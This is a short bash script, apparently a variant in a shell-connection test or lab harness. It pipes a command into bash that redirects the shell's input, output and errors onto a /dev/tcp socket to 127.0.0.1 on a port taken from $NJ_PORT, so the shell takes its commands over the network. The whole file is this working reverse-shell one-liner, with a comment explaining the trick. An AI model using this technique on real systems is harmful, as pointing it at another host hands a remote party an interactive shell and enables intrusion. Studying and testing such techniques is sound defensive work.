#!/bin/bash
# No new image: a bash that reads its commands from a pipe turns its own descriptors into the
# connection and goes on reading commands from there.
printf 'exec 0<>/dev/tcp/127.0.0.1/%s 1>&0 2>&0\n' "$NJ_PORT" | bash
